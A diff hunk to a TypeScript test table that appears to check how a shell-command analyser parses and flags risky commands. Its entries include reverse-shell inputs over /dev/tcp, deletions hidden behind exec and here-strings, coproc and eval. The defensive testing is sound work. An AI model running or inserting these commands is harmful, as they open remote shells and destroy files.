@@ -166,7 +166,7 @@ const LINES: Readonly<Record<string, readonly (readonly string[])[]>> = {
     ["bash < /dev/tcp/h/1", "bash </dev/tcp/h/1 !"],
     ["bash -i >& /dev/tcp/h/1 0>&1", "bash -i &>/dev/tcp/h/1 !"],
     ["exec 3<<< 'rm a'; bash <&3", "exec", "bash !"],
-    ["exec <<< 'rm a'; bash", "@? !"],
+    ["exec <<< 'rm a'; bash", "exec", "bash", "…"],
     ["exec < f; bash", "exec <f", "bash"],
     ["coproc bash", "coproc: bash !"],
     ["eval rm a", "eval rm a", "eval: rm a"],
